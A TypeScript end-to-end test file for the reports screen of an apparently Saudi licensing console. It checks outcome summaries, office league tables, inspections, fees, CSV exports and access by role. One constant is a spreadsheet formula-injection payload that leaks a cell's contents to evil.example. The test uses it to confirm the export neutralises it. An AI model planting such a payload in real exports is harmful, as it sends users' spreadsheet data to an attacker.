// The reports screen in a real Chromium, against the real API, Temporal and
// PostgreSQL, signed in through the login page. Cases run through the
// workflow today to every outcome (issued, excluded for each reason, rejected,
// cancelled by an administrator, still open) in two offices with Arabic names,
// beside cases of past months written in as the workflow leaves them; the supervisor's page shows the summary with every outcome (each line adding
// up to what was received), the outcomes over time and the office league
// table, with their charts, and downloads the same CSV files the API serves:
// a byte-order mark first, the Arabic as Arabic, an office name that would run
// as a formula neutralised. The periodic inspections of the last weeks
// (written in as the license workflow leaves them) are counted in their own
// section, with its charts, in both languages, and its CSV is the API's. So
// are the fees of some of the past cases (written in as the ledger leaves
// them): received, refunded, net, by kind, office, activity and basis, over
// time with their chart, and the renewal invoices unpaid now. An auditor may
// read them; a reviewer may not.
import { readFileSync } from 'node:fs';
import { sql } from 'drizzle-orm';
import type { Browser, Locator, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { freePort } from '../scripts/ports';
import { startTestEnv, type TestEnv, type Who } from './support/env';
import { call, commercialApplication, healthApplication, submit, waitForApp, waitForStage } from './support/fixtures';
import { launchBrowser, screenshotsInBothLanguages, seriousViolations, signInAs } from './support/browser';
import { seedInspection, seedLicense } from './support/inspections';

let env: TestEnv;
let browser: Browser;
let base: string;
const SHOTS = '.data/test/screenshots';
/** Short, so the case filed without its civil-defense certificate is excluded within the test. */
const CORRECTION_DEADLINE_MS = 3_000;
const OFFICE_A_NAME = 'مكتب الأحساء للاستشارات الهندسية';
const OFFICE_B_NAME = 'مكتب هجر للاستشارات';
/** An office name a spreadsheet would run: `=HYPERLINK(...)` sends the sheet's cells away when clicked. */
const FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"مكتب هجر")';
const BOM = [0xef, 0xbb, 0xbf];
const OUTCOMES = ['issued', 'excludedIncomplete', 'excludedConditions', 'excludedUnpaid', 'rejected', 'cancelled', 'open'] as const;

const DAY_MS = 86_400_000;

/**
 * Cases of past months, written into the tables as the workflow leaves them:
 * days to a license, and months apart, are more than a test's seconds can make.
 */
const PAST: { office: 'a' | 'b'; daysAgo: number; status: 'issued' | 'excluded'; reason?: 'incomplete' | 'unpaid'; days: number; corrected?: boolean; review?: 'on_time' | 'late' }[] = [
  { office: 'a', daysAgo: 60, status: 'issued', days: 2, review: 'on_time' },
  { office: 'a', daysAgo: 61, status: 'issued', days: 6, review: 'late' },
  { office: 'a', daysAgo: 90, status: 'excluded', reason: 'incomplete', days: 14, corrected: true },
  { office: 'b', daysAgo: 30, status: 'issued', days: 1, review: 'on_time' },
  { office: 'b', daysAgo: 95, status: 'issued', days: 3, review: 'on_time' },
  // Approved, invoiced, and its fee not paid by the due date.
  { office: 'b', daysAgo: 40, status: 'excluded', reason: 'unpaid', days: 15, review: 'on_time' },
];
const pastId = (i: number) => {
  const submitted = new Date(Date.now() - PAST[i]!.daysAgo * DAY_MS);
  return { id: `TRK-${submitted.toISOString().slice(0, 10).replaceAll('-', '')}-PAST0${i}`, submitted };
};

async function seedPast() {
  for (const [i, c] of PAST.entries()) {
    const { id, submitted } = pastId(i);
    const closed = new Date(submitted.getTime() + c.days * DAY_MS);
    const office = env.offices[c.office];
    await env.db.db.execute(sql`
      insert into applications (id, status, stage, exclusion_reason, license_kind, office_id, applicant_national_id, applicant_name,
        applicant_mobile, cr_number, trade_name, isic_code, district, data, submitted_at, updated_at, closed_at)
      values (${id}, ${c.status}, 'closed', ${c.reason ?? null}, 'commercial', ${office}, '1000000008', 'Seeded',
        '+966500000000', '2250000000', 'Seeded shop', '477101', 'Al-Hofuf', '{}'::jsonb, ${submitted}, ${closed}, ${closed})`);
    if (c.corrected) {
      await env.db.db.execute(sql`insert into application_events (application_id, seq, event, stage, status, at)
        values (${id}, 1, 'correction_requested', 'awaiting_correction', 'in_progress', ${submitted})`);
    }
    if (c.review) {
      const due = new Date(submitted.getTime() + DAY_MS);
      const decided = new Date(due.getTime() + (c.review === 'on_time' ? -1 : 1) * 3_600_000);
      await env.db.db.execute(sql`insert into tasks (id, application_id, kind, required_role, office_id, status, round, created_at, due_at,
          decided_at, decision, license_kind, trade_name, cr_number, seq)
        values (${`${id}:technical:1`}, ${id}, 'technical_review', 'technical_inspector', ${office}, 'completed', 1,
          ${submitted}, ${due}, ${decided}, 'approve', 'commercial', 'Seeded shop', '2250000000', 1)`);
    }
  }
}

/** Inspections of the last weeks, written in as the license workflow leaves them (a task is due days after it opens). */
const MUBARRAZ = 'المبرز';
const HOFUF = 'الهفوف';
const ago = (days: number) => new Date(Date.now() - days * DAY_MS);
async function seedInspections() {
  // Imported from before Tarkhees: a case of their own would be a filing in the summary.
  await seedLicense(env, { number: 'RPI-2026-000001', importedDistrict: MUBARRAZ });
  await seedLicense(env, { number: 'RPI-2026-000002', importedDistrict: HOFUF });
  const violations = [{ code: 'V-CERT-01', severity: 'fix' }, { code: 'V-HYG-01', severity: 'note' }];
  await seedInspection(env, { licenseNumber: 'RPI-2026-000001', seq: 1, status: 'completed', created: ago(20), due: ago(13), decided: ago(15), result: { event: 'inspection_violations', violations } });
  await seedInspection(env, { licenseNumber: 'RPI-2026-000001', seq: 3, status: 'completed', created: ago(10), due: ago(3), decided: ago(5), result: { event: 'inspection_passed', violations: [] } });
  await seedInspection(env, { licenseNumber: 'RPI-2026-000002', seq: 1, status: 'completed', created: ago(12), due: ago(5), decided: ago(4), result: { event: 'suspended', violations: [{ code: 'V-PEST-01', severity: 'closure' }] } });
  await seedInspection(env, { licenseNumber: 'RPI-2026-000002', seq: 3, status: 'open', created: ago(9), due: ago(2) });
}

/** The seeded fees, in halalas. */
const FEES = { PAST0: 300_000, PAST3: 100_000, UNPAID: 300_000, RENEWAL: 80_000 };

/**
 * The fees of the past cases, as the ledger leaves them: PAST0 (A) and PAST3
 * (B) paid, PAST3 paid twice and the second refunded, the unpaid case's
 * invoice expired; and two imported licenses' renewals unpaid now, one past
 * its due date (its workflow not yet on to it).
 */
async function seedLedger() {
  let n = 0;
  const invoice = async (o: { id: string; basis: 'issuance' | 'renewal'; application?: string; license?: string; office: string | null; kind: string; isic: string; amount: number; status: string; created: Date; due: Date; closed?: Date }) => {
    n += 1;
    await env.db.db.execute(sql`
      insert into invoices (id, basis, application_id, license_number, bill_number, amount_halalas, lines, schedule_version, status, due_at, created_at, closed_at,
        license_kind, isic_code, office_id, payer_national_id, payer_name, mobile, trade_name)
      values (${o.id}, ${o.basis}::invoice_basis, ${o.application ?? null}, ${o.license ?? null}, ${`90000000000${String(n).padStart(2, '0')}`}, ${o.amount}, '[]'::jsonb, 1,
        ${o.status}::invoice_status, ${o.due}, ${o.created}, ${o.closed ?? null}, ${o.kind}::license_kind, ${o.isic}, ${o.office}, '1000000008', 'Seeded', '+966500000000', 'Seeded shop')`);
  };
  const payment = async (id: string, invoiceId: string, amount: number, at: Date, status: 'applied' | 'refunded') => {
    await env.db.db.execute(sql`
      insert into payments (payment_id, bill_number, invoice_id, amount_halalas, paid_at, received_at, source, status, receipt_number)
      select ${id}, bill_number, id, ${amount}, ${at}, ${at}, 'notification', ${status}::payment_status, ${status === 'applied' ? `RCT-SEED-${id}` : null}
      from invoices where id = ${invoiceId}`);
    if (status === 'applied') {
      await env.db.db.execute(sql`update invoices set status = 'paid', payment_id = ${id}, receipt_number = ${`RCT-SEED-${id}`}, paid_at = ${at}, closed_at = ${at} where id = ${invoiceId}`);
    }
  };
  const paidCase = async (i: number, office: 'a' | 'b', amount: number) => {
    const { id, submitted } = pastId(i);
    const invoiceId = `${id}:invoice`;
    const at = new Date(submitted.getTime() + DAY_MS / 2);
    await invoice({ id: invoiceId, basis: 'issuance', application: id, office: env.offices[office], kind: 'commercial', isic: '477101', amount, status: 'open', created: submitted, due: new Date(submitted.getTime() + 14 * DAY_MS) });
    await payment(`PAY-SEED-${i}`, invoiceId, amount, at, 'applied');
    return { invoiceId, at };
  };
  await paidCase(0, 'a', FEES.PAST0);
  const twice = await paidCase(3, 'b', FEES.PAST3);
  // Paid a second time at another bank: held as already paid, then given back.
  await payment('PAY-SEED-3-AGAIN', twice.invoiceId, FEES.PAST3, new Date(twice.at.getTime() + 3_600_000), 'refunded');
  await env.db.db.execute(sql`insert into refunds (id, payment_id, invoice_id, amount_halalas, reason, created_by, created_at, refunded_at, office_id, license_kind)
    values ('RFD-PAY-SEED-3-AGAIN', 'PAY-SEED-3-AGAIN', ${twice.invoiceId}, ${FEES.PAST3}, 'not_owed', 'admin-1', ${new Date(twice.at.getTime() + DAY_MS)}, ${new Date(twice.at.getTime() + DAY_MS)}, ${env.offices.b}, 'commercial')`);
  const unpaid = pastId(5);
  await invoice({ id: `${unpaid.id}:invoice`, basis: 'issuance', application: unpaid.id, office: env.offices.b, kind: 'commercial', isic: '477101', amount: FEES.UNPAID, status: 'expired', created: unpaid.submitted, due: new Date(unpaid.submitted.getTime() + 14 * DAY_MS), closed: new Date(unpaid.submitted.getTime() + 14 * DAY_MS) });
  for (const [license, dueInDays] of [['RPI-2026-000001', 5], ['RPI-2026-000002', -1]] as const) {
    await invoice({ id: `${license}:invoice:5`, basis: 'renewal', license, office: null, kind: 'health', isic: '563001', amount: FEES.RENEWAL, status: 'open', created: ago(3), due: new Date(Date.now() + dueInDays * DAY_MS) });
  }
}

const renameOffice = (id: string, name: string) => env.db.db.execute(sql`update offices set name = ${name} where id = ${id}`);

beforeAll(async () => {
  const port = await freePort();
  base = `http://127.0.0.1:${port}`;
  [env, browser] = await Promise.all([
    startTestEnv({ signIn: { apiPublicUrl: base, people: true }, timing: { correctionDeadlineMs: CORRECTION_DEADLINE_MS } }),
    launchBrowser(),
  ]);
  await env.api.listen({ host: '127.0.0.1', port });
  await renameOffice(env.offices.a, OFFICE_A_NAME);
  await renameOffice(env.offices.b, OFFICE_B_NAME);
  await seedPast();
  await seedInspections();
  await seedLedger();

  const file = async (who: Who, body: object) => {
    const res = await submit(env.api, body, undefined, who);
    expect(res.statusCode, res.body).toBe(201);
    return res.json().id as string;
  };
  const decide = async (id: string, kind: 'health' | 'technical', who: Who, decision: object) => {
    const task = `${id}:${kind}:1`;
    expect((await call(env.api, who, 'POST', `/tasks/${task}/claim`)).statusCode).toBe(200);
    const res = await call(env.api, who, 'POST', `/tasks/${task}/decision`, decision);
    expect(res.statusCode, res.body).toBe(200);
  };
  const shop = commercialApplication();
  const [issuedA, incompleteA, openA, cancelledA, rejectedB, tooSmallB, issuedB] = [
    await file('clerk', commercialApplication()),
    await file('clerk', { ...shop, documents: shop.documents.filter((d) => d.type !== 'civil_defense') }),
    await file('clerk', commercialApplication()),
    await file('clerk', commercialApplication()),
    await file('clerkB', healthApplication()),
    await file('clerkB', { ...shop, establishment: { ...shop.establishment, crNumber: commercialApplication().establishment.crNumber, areaSqm: 1 } }),
    await file('clerkB', commercialApplication()),
  ];
  for (const id of [issuedA, openA, cancelledA, rejectedB, issuedB]) await waitForStage(env.api, id, 'review');
  const cancel = await call(env.api, 'admin', 'POST', `/operations/cases/${cancelledA}/repair`, { action: 'cancel', reason: 'filed twice by mistake' });
  expect(cancel.statusCode, cancel.body).toBe(200);
  await decide(issuedA, 'technical', 'inspector', { decision: 'approve' });
  await decide(rejectedB, 'health', 'healthB', { decision: 'reject', reasons: ['HYGIENE'] });
  await decide(issuedB, 'technical', 'inspectorB', { decision: 'approve' });
  const ends = (id: string, status: string) => waitForApp(env.api, id, status, (a) => a.status === status);
  await Promise.all([
    ends(issuedA, 'issued'),
    ends(incompleteA, 'excluded'),
    ends(cancelledA, 'cancelled'),
    ends(rejectedB, 'rejected'),
    ends(tooSmallB, 'excluded'),
    ends(issuedB, 'issued'),
  ]);
}, 180_000);
afterAll(async () => {
  await browser?.close();
  await env?.close();
});

const signedInAs = (who: Who): Promise<Page> => signInAs(browser, base, who);

/** A table row's figures by their cells' names (data-outcome or data-figure). */
async function figures(row: Locator, attribute: 'data-outcome' | 'data-figure'): Promise<Record<string, string>> {
  const named = await row.locator(`td[${attribute}]`).evaluateAll((tds, a) => tds.map((td) => [td.getAttribute(a)!, td.textContent!.trim()]), attribute);
  return Object.fromEntries(named);
}
const counts = (r: Record<string, string>) => Object.fromEntries(Object.entries(r).map(([k, v]) => [k, Number(v)]));

async function downloaded(page: Page, link: string): Promise<Buffer> {
  const [download] = await Promise.all([page.waitForEvent('download'), page.click(link)]);
  return readFileSync((await download.path())!);
}

describe('reports in the console', () => {
  it("shows a supervisor the period's summary with every outcome, the outcomes over time and the office league table, with charts", async () => {
    const page = await signedInAs('supervisor');
    await page.click('a[href="/console/reports"]');
    await page.waitForURL(`${base}/console/reports`);

    expect(counts(await figures(page.locator('#summary-table tr[data-row=total]'), 'data-outcome'))).toEqual({
      received: 13,
      issued: 6,
      excludedIncomplete: 2,
      excludedConditions: 1,
      excludedUnpaid: 1,
      rejected: 1,
      cancelled: 1,
      open: 1,
    });
    expect(counts(await figures(page.locator('#summary-table tr[data-row=health]'), 'data-outcome'))).toMatchObject({ received: 1, rejected: 1 });
    // Every case is in exactly one outcome: on each line, of the summary and of the table over time, they add up to received.
    const lines = await page.locator('#summary-table tbody tr, #over-time-table tbody tr').all();
    expect(lines.length).toBeGreaterThanOrEqual(3);
    for (const line of lines) {
      const row = counts(await figures(line, 'data-outcome'));
      expect(OUTCOMES.reduce((sum, k) => sum + row[k]!, 0), JSON.stringify(row)).toBe(row.received);
    }
    // The period's parts hold its cases once each: the last twelve months.
    const parts = await page.locator('#over-time-table tbody tr td[data-outcome=received]').allTextContents();
    expect(parts).toHaveLength(12);
    expect(parts.map(Number).reduce((a, b) => a + b, 0)).toBe(13);

    // The league table, by volume: office A's seven cases first, two of them asked for a correction, one review of three late.
    const offices = await page.locator('#league-table tbody tr').evaluateAll((trs) => trs.map((tr) => tr.getAttribute('data-office')));
    expect(offices).toEqual([env.offices.a, env.offices.b]);
    expect(await page.textContent(`#league-table tr[data-office=${env.offices.a}] th`)).toContain(OFFICE_A_NAME);
    expect(await figures(page.locator(`#league-table tr[data-office=${env.offices.a}]`), 'data-figure')).toEqual({
      received: '7',
      issued: '3',
      median: '2',
      p90: '5.2',
      firstTime: '71.4٪',
      reviews: '3',
      sla: '66.7٪',
    });
    // B: the rejected case's technical review was cancelled with it, not decided.
    expect(await figures(page.locator(`#league-table tr[data-office=${env.offices.b}]`), 'data-figure')).toEqual({ received: '6', issued: '3', median: '1', p90: '2.6', firstTime: '100٪', reviews: '5', sla: '100٪' });

    // Each chart is an image with its title and description; the one over time draws a mark for each figure in its table that is not 0.
    const charts = page.locator('svg[role=img][data-chart]');
    // The applications' five, the inspections' two, and the fees'.
    expect(await charts.count()).toBe(8);
    for (const chart of await charts.all()) {
      const [title, desc] = (await chart.getAttribute('aria-labelledby'))!.split(' ');
      expect((await page.textContent(`#${title}`))!.trim()).not.toBe('');
      expect((await page.textContent(`#${desc}`))!.trim()).not.toBe('');
    }
    const nonZero = (await page.locator('#over-time-table tbody td[data-outcome]:not([data-outcome=received])').allTextContents()).filter((n) => n !== '0');
    expect(await page.locator('svg[data-chart=chart-over-time] rect').count()).toBe(nonZero.length);
    expect(await page.textContent('#chart-volume-desc')).toContain(`${OFFICE_A_NAME}: 7`);
    // The licenses today, as GET /reports/licenses counts them: the issued cases' licenses, all in force.
    const licenses = (await call(env.api, 'supervisor', 'GET', `/reports/licenses?from=2020-01-01&to=2020-01-31`)).json();
    expect(licenses.now.total).toBeGreaterThan(0);
    expect(counts(await figures(page.locator('#licenses-table tr[data-row=total]'), 'data-figure'))).toEqual({
      active: licenses.now.active, renewalOpen: licenses.now.renewalOpen, expiringSoon: licenses.now.expiringSoon, expired: licenses.now.expired,
      suspended: licenses.now.suspended, revoked: licenses.now.revoked, cancelled: licenses.now.cancelled,
    });
    expect(await seriousViolations(page)).toEqual([]);
    await screenshotsInBothLanguages(page, SHOTS, 'reports');
    await page.context().close();
  });

  it('shows the periodic inspections: on time, late and overdue, the results by district with their chart, the violations by code, and their CSV', async () => {
    const page = await signedInAs('supervisor');
    await page.goto(`${base}/console/reports?lang=en`);
    const section = page.locator('section[aria-labelledby=inspections]');
    const none = { cameDue: 0, doneOnTime: 0, doneLate: 0, withdrawn: 0, openOverdue: 0, openDue: 0 };
    expect(counts(await figures(section.locator('#inspections-table tr[data-row=total]'), 'data-figure'))).toEqual({ ...none, cameDue: 4, doneOnTime: 2, doneLate: 1, openOverdue: 1 });
    expect(counts(await figures(section.locator(`#inspections-table tr[data-district="${HOFUF}"]`), 'data-figure'))).toEqual({ ...none, cameDue: 2, doneLate: 1, openOverdue: 1 });
    expect(counts(await figures(section.locator('#inspection-results-table tr[data-row=total]'), 'data-figure'))).toEqual({ pass: 1, noted: 0, fix: 1, closure: 1, violations: 3 });
    expect(counts(await figures(section.locator(`#inspection-results-table tr[data-district="${MUBARRAZ}"]`), 'data-figure'))).toEqual({ pass: 1, noted: 0, fix: 1, closure: 0, violations: 2 });
    expect(await section.locator('[data-figure=onTimeShare]').textContent()).toBe('66.7%');
    // The violations by code, in the page's language.
    expect(await section.locator('#violations-table tbody tr').evaluateAll((trs) => trs.map((tr) => tr.getAttribute('data-code')))).toEqual(['V-CERT-01', 'V-HYG-01', 'V-PEST-01']);
    expect(await section.locator('#violations-table tr[data-code=V-PEST-01]').textContent()).toContain('Pests in the preparation area');
    expect(await section.locator('#violations-table tr[data-code=V-PEST-01]').textContent()).toContain('Closure: the license is suspended at once');
    // The results' chart: a column per district with results, a mark for each of its results that is not 0.
    expect(await section.locator('svg[data-chart=chart-inspection-results] rect').count()).toBe(3);
    expect(await section.locator('svg[data-chart=chart-violations] rect').count()).toBe(3);
    expect(await page.textContent('#chart-violations-desc')).toContain('V-PEST-01: 1');
    expect(await seriousViolations(page)).toEqual([]);
    await page.goto(`${base}/console/reports?lang=ar`);
    expect(await page.locator('#violations-table tr[data-code=V-PEST-01]').textContent()).toContain('وجود حشرات أو قوارض في منطقة التحضير');
    expect(await seriousViolations(page)).toEqual([]);

    const period = new URL(`${base}${await page.getAttribute('#csv-inspections', 'href')}`).search.slice(1);
    const file = await downloaded(page, '#csv-inspections');
    expect([...file.subarray(0, 3)]).toEqual(BOM);
    expect(file.toString('utf8')).toBe((await call(env.api, 'auditor', 'GET', `/reports/inspections?${period}&format=csv`)).body);
    expect(file.toString('utf8').split('\r\n')).toContain(`district,${HOFUF},,,,2,0,1,0,1,0,0,0,0,1,1,`);
    await page.context().close();
  });

  it('shows the fees: received (a payment refunded since included), refunded, net, by kind, office, activity and basis, over time with a chart; the invoices unpaid now; in both languages, with their CSV', async () => {
    const page = await signedInAs('supervisor');
    const received = FEES.PAST0 + FEES.PAST3 + FEES.PAST3;
    const riyals = (h: number) => new Intl.NumberFormat('en-GB', { minimumFractionDigits: 2 }).format(h / 100);
    for (const lang of ['en', 'ar'] as const) {
      await page.goto(`${base}/console/reports?lang=${lang}`);
      const revenue = page.locator('section[aria-labelledby=revenue]');
      expect((await revenue.locator('h2').textContent())!.trim()).toBe(lang === 'en' ? 'Fees received' : 'الرسوم المحصَّلة');
      // The figures are the API's, written the same in both languages (Latin digits).
      const api = (await call(env.api, 'auditor', 'GET', `/reports/revenue?${new URL(`${base}${await page.getAttribute('#csv-revenue', 'href')}`).search.slice(1)}`)).json();
      expect(api.received).toEqual({ count: 3, halalas: received });
      const line = async (row: string) => figures(revenue.locator(`#revenue-table tr[data-row=${row}]`), 'data-figure');
      expect(await line('received')).toEqual({ count: '3', sar: riyals(received) });
      expect(await line('refunded')).toEqual({ count: '1', sar: riyals(FEES.PAST3) });
      expect(await line('net')).toEqual({ count: '—', sar: riyals(received - FEES.PAST3) });
      expect(await line('held')).toEqual({ count: '0', sar: riyals(0) });
      expect(await figures(revenue.locator('#revenue-kind-table tr[data-key=commercial]'), 'data-figure')).toEqual({ count: '3', sar: riyals(received) });
      expect(await figures(revenue.locator(`#revenue-office-table tr[data-key=${env.offices.a}]`), 'data-figure')).toEqual({ count: '1', sar: riyals(FEES.PAST0) });
      expect(await figures(revenue.locator(`#revenue-office-table tr[data-key=${env.offices.b}]`), 'data-figure')).toEqual({ count: '2', sar: riyals(2 * FEES.PAST3) });
      expect(await figures(revenue.locator('#revenue-basis-table tr[data-key=issuance]'), 'data-figure')).toEqual({ count: '3', sar: riyals(received) });
      expect(await figures(revenue.locator('#refunds-table tr[data-key=not_owed]'), 'data-figure')).toEqual({ count: '1', sar: riyals(FEES.PAST3) });
      expect(await revenue.locator('#revenue-activity-table tr[data-key="477101"] th').textContent()).toContain(api.byActivity[0][lang === 'en' ? 'activityEn' : 'activityAr']);
      expect(await revenue.locator('#refunds-table').textContent()).toContain(lang === 'en' ? 'Not owed' : 'مبلغ غير مستحق');
      // Over time: the parts add up to what was received, and the chart draws a column for each part with a payment.
      const parts = await revenue.locator('#revenue-over-time-table tbody td[data-figure=received]').allTextContents();
      expect(parts).toHaveLength(12);
      expect(parts.map((p) => Number(p.replaceAll(',', ''))).reduce((a, b) => a + b, 0)).toBe(received / 100);
      expect(await revenue.locator('svg[data-chart=chart-revenue] rect').count()).toBe(parts.filter((p) => p !== riyals(0)).length);
      expect((await page.textContent('#chart-revenue-title'))!.trim()).toBe(lang === 'en' ? 'Fees received over time' : 'الرسوم المحصَّلة عبر الزمن');

      // The renewals unpaid now, the one past its due date first.
      const outstanding = page.locator('section[aria-labelledby=outstanding]');
      expect((await outstanding.locator('h2').textContent())!.trim()).toBe(lang === 'en' ? 'Invoices unpaid now' : 'الفواتير غير المسدَّدة الآن');
      expect(await figures(outstanding.locator('#outstanding-table tr[data-row=total]'), 'data-figure')).toEqual({
        count: '2',
        halalas: riyals(2 * FEES.RENEWAL),
        overdueCount: '1',
        overdueHalalas: riyals(FEES.RENEWAL),
        notDueCount: '1',
        notDueHalalas: riyals(FEES.RENEWAL),
      });
      expect(await outstanding.locator('#outstanding-invoices tbody tr').evaluateAll((trs) => trs.map((tr) => [tr.getAttribute('data-invoice'), tr.getAttribute('data-overdue')]))).toEqual([
        ['RPI-2026-000002:invoice:5', 'true'],
        ['RPI-2026-000001:invoice:5', null],
      ]);
      expect(await outstanding.locator('#outstanding-invoices tr[data-overdue=true] td').first().textContent()).toContain(lang === 'en' ? 'Overdue' : 'متأخرة');
      expect(await seriousViolations(page)).toEqual([]);
    }

    const period = new URL(`${base}${await page.getAttribute('#csv-revenue', 'href')}`).search.slice(1);
    const file = await downloaded(page, '#csv-revenue');
    expect([...file.subarray(0, 3)]).toEqual(BOM);
    expect(file.toString('utf8')).toBe((await call(env.api, 'auditor', 'GET', `/reports/revenue?${period}&format=csv`)).body);
    expect(file.toString('utf8').split('\r\n')[1]).toBe('total,,,3,5000.00,1,1000.00,4000.00,0,0.00');
    const unpaid = await downloaded(page, '#csv-outstanding');
    expect([...unpaid.subarray(0, 3)]).toEqual(BOM);
    expect(unpaid.toString('utf8').split('\r\n').slice(0, 2)).toEqual([
      '\uFEFFscope,key,name,count,sar,overdueCount,overdueSar,notDueCount,notDueSar,billNumber,caseOrLicense,basis,dueAt',
      'total,,,2,1600.00,1,800.00,1,800.00,,,,',
    ]);
    await page.context().close();
  });

  it("downloads from the page the API's own CSV: a byte-order mark for Excel, the Arabic as Arabic, a formula neutralised", async () => {
    await renameOffice(env.offices.b, FORMULA_NAME);
    try {
      const page = await signedInAs('supervisor');
      await page.goto(`${base}/console/reports`);
      const period = new URL(`${base}${await page.getAttribute('#csv-summary', 'href')}`).search.slice(1);

      const summary = await downloaded(page, '#csv-summary');
      expect([...summary.subarray(0, 3)]).toEqual(BOM);
      const text = summary.toString('utf8');
      expect(text).toBe((await call(env.api, 'auditor', 'GET', `/reports/summary?${period}&format=csv`)).body);
      const rows = text.slice(1).trimEnd().split('\r\n');
      expect(rows[0]).toBe('scope,key,name,received,issued,excludedIncomplete,excludedConditions,excludedUnpaid,rejected,cancelled,open');
      expect(rows[1]).toBe('total,,,13,6,2,1,1,1,1,1');
      expect(rows).toContain(`office,${env.offices.a},${OFFICE_A_NAME},7,3,2,0,0,0,1,1`);
      // Shown as text: an apostrophe first, then the name as it is (quoted, for its quotes and comma).
      expect(rows.find((r) => r.startsWith(`office,${env.offices.b},`))).toBe(`office,${env.offices.b},"'=HYPERLINK(""http://evil.example/?""&A1,""مكتب هجر"")",6,3,0,1,1,1,0,0`);

      const offices = await downloaded(page, '#csv-offices');
      expect([...offices.subarray(0, 3)]).toEqual(BOM);
      expect(offices.toString('utf8')).toBe((await call(env.api, 'auditor', 'GET', `/reports/offices?${period}&format=csv`)).body);
      const lines = offices.toString('utf8').split('\r\n');
      expect(lines.find((l) => l.startsWith(`${env.offices.a},`))).toMatch(new RegExp(`^${env.offices.a},${OFFICE_A_NAME},7,3,`));
      expect(lines.find((l) => l.startsWith(`${env.offices.b},`))).toMatch(/^OFF-\w+,"'=HYPERLINK\(/);
      // On the page the same name is text, not markup or a link.
      expect(await page.textContent(`#league-table tr[data-office=${env.offices.b}] th bdi`)).toBe(FORMULA_NAME);
      await page.context().close();
    } finally {
      await renameOffice(env.offices.b, OFFICE_B_NAME);
    }
  });

  it('takes another period from its form, and gives a period that is not one back to the form', async () => {
    const page = await signedInAs('auditor');
    await page.goto(`${base}/console/reports`);
    await page.fill('#from', '2020-01-01');
    await page.fill('#to', '2020-01-31');
    await page.click('form.filters button[type=submit]');
    await page.waitForURL(/from=2020-01-01&to=2020-01-31/);
    expect(counts(await figures(page.locator('#summary-table tr[data-row=total]'), 'data-outcome'))).toMatchObject({ received: 0, cancelled: 0 });
    expect(await page.locator('#reports-empty').count()).toBe(1);
    expect(await page.locator('#revenue-empty').count()).toBe(1);
    expect(await page.getAttribute('#csv-offices', 'href')).toBe('/console/reports/offices.csv?from=2020-01-01&to=2020-01-31');

    const backwards = await page.goto(`${base}/console/reports?from=2026-05-01&to=2026-04-01`);
    expect(backwards?.status()).toBe(400);
    expect(await page.locator('.error-summary').count()).toBe(1);
    expect(await page.inputValue('#from')).toBe('2026-05-01');
    expect((await page.request.get(`${base}/console/reports/summary.csv?from=2026-02-30&to=2026-03-01`)).status()).toBe(400);
    expect(await seriousViolations(page)).toEqual([]);
    await page.context().close();
  });

  it('lets an auditor read the reports and refuses a reviewer, as the API does', async () => {
    const auditor = await signedInAs('auditor');
    expect(await auditor.locator('a[href="/console/reports"]').count()).toBe(1);
    expect((await auditor.goto(`${base}/console/reports`))?.status()).toBe(200);
    await auditor.context().close();

    const reviewer = await signedInAs('health');
    expect(await reviewer.locator('a[href="/console/reports"]').count()).toBe(0);
    expect((await reviewer.goto(`${base}/console/reports`))?.status()).toBe(403);
    expect((await reviewer.request.get(`${base}/console/reports/summary.csv`)).status()).toBe(403);
    expect((await reviewer.request.get(`${base}/console/reports/revenue.csv`)).status()).toBe(403);
    expect((await reviewer.request.get(`${base}/console/reports/outstanding.csv`)).status()).toBe(403);
    expect((await call(env.api, 'health', 'GET', '/reports/summary?from=2026-01-01&to=2026-01-31')).statusCode).toBe(403);
    await reviewer.context().close();
  });
});
